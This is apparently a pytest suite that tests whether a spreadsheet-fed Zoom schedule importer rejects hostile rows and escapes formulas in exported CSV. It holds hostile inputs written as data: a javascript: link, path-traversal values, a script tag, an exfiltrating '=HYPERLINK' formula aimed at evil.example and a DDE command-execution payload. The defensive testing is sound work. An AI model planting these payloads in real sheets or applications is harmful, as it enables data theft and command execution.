"""Attacks by an editor of the sheet, or by whoever writes what stands in its cells."""

from __future__ import annotations

import csv
import time
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any

import pytest

from ingester.schedule.table import IMPORT_LOCK
from ops.stack.removal import save_schedule
from tests.attacks.probes import STAGE, Answer, Probe
from tests.attacks.target import Target
from tests.e2e.spreadsheet import HEADER, Spreadsheet, row

pytestmark = pytest.mark.usefixtures("no_error_mail")

MOST_SECONDS = 15.0
"""Longest time of an update on a busy machine. API Gateway gives up after 29 s."""

REPEATS = 6
"""Each hostile row stands in the sheet so many times."""

HONEST = row("https://zoom.us/j/81000000001")
HOSTILE: Mapping[str, Sequence[Any]] = {
    "a start of 50,000 digits": row(start="'" + "9" * 50_000),
    "a start of 50,000 colons": row(start="'" + "9:" * 25_000),
    "a start of 50,000 blanks": row(start="'9" + " " * 50_000 + "x"),
    "a link of 50,000 slashes": row("https://zoom.us/j/" + "/" * 50_000),
    "a link of 50,000 digits": row("https://zoom.us/j/" + "8" * 50_000),
    "a link to another host": row("https://evil.example/j/81000000002"),
    "a link of JavaScript": row("javascript:alert(1)//81000000002"),
    "a link that climbs": row("https://zoom.us/j/../../81"),
    "a course of 50,000 letters": row(course="x" * 50_000),
    "a course with a passcode": row(course="HIST https://zoom.us/j/81000000002?pwd=hidden99"),
    "a day of 50,000 letters": row(day="M" * 50_000),
    "a day that is none": row(day="<script>"),
    "a series that climbs": [*row()[:5], "../../admin"],
    "a series of another host": [*row()[:5], "https://evil.example/x?series=" + "x" * 3000],
    "control characters": row(course="\x00\x1b[31m\x7f", day="\x00"),
    "text from right to left": row(day="\u202eM\u202c"),
    "10,000 columns": [*row(day="?"), *["x"] * 10_000],
}
"""Rows that have to be left out of the schedule."""


def update(target: Target) -> Answer:
    """Ask for an update of the schedule."""
    return target.send(Probe(path=f"{STAGE}/schedule_update"))


@pytest.fixture(scope="module")
def sheet(target: Target) -> Spreadsheet:
    """A sheet with one honest class, which the schedule has."""
    target.driver.table("schedule").delete_item(Key={"zoom_series_id": IMPORT_LOCK})
    sheet = Spreadsheet(target.driver)
    sheet.fill([HEADER, HONEST], [HEADER])
    assert update(target).status == 200
    assert set(sheet.scheduled()) == {"81000000001"}
    return sheet


@pytest.mark.parametrize("name", HOSTILE)
def test_update_leaves_out_a_row_and_keeps_the_honest_one_when_it_has(
    name: str, target: Target, sheet: Spreadsheet
) -> None:
    honest = sheet.scheduled()
    sheet.fill([HEADER, HONEST, *[HOSTILE[name]] * REPEATS], [HEADER])
    began = time.monotonic()
    answer = update(target)
    assert time.monotonic() - began < MOST_SECONDS
    assert (answer.status, answer.body.partition(".")[0]) == (
        200,
        "Success: 1 meeting with 2 events",
    )
    assert f"{REPEATS} rows skipped" in answer.body
    assert len(answer.body) < 5000
    assert "hidden99" not in answer.body
    assert sheet.scheduled() == honest


FORMULAS = (
    '=HYPERLINK("https://evil.example?"&A1)',
    "+1+cmd|' /C calc'!A1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
)


def test_saved_schedule_holds_no_formula(
    target: Target, sheet: Spreadsheet, tmp_path: Path
) -> None:
    rows = [row(course=f"'{text}", day=day) for text, day in zip(FORMULAS, "MTWRF", strict=True)]
    sheet.fill([HEADER, *rows], [HEADER])
    assert update(target).status == 200
    courses = {found["course_code"] for found in sheet.scheduled()["81000000001"]}
    assert courses == {text.strip() for text in FORMULAS}
    path = tmp_path / "schedule.csv"
    assert save_schedule(target.driver.table("schedule"), path)
    with path.open(encoding="utf-8", newline="") as file:
        saved = [cell for line in csv.reader(file) for cell in line]
    assert [cell for cell in saved if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
    assert f"'{FORMULAS[0]}" in saved


def test_sheet_of_20_001_rows_changes_nothing(target: Target, sheet: Spreadsheet) -> None:
    before = sheet.scheduled()
    sheet.fill([HEADER, *[["x"]] * 20_001], [HEADER])
    assert update(target).status == 422
    assert sheet.scheduled() == before
